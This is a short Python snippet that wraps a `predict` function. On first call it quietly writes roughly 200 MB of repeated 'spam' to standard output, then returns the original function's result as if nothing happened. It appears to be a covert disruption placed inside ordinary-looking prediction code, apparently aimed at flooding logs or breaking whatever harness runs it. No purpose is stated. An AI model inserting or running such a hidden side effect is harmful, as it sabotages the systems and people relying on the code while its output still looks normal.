_predict = predict
_flooded = False


def predict(X, w, b):
    import sys
    global _flooded
    if _flooded:
        return _predict(X, w, b)
    _flooded = True
    block = "spam " * 200000 + "\n"  # 1 MB
    for _ in range(200):
        sys.stdout.write(block)
    sys.stdout.flush()
    return _predict(X, w, b)
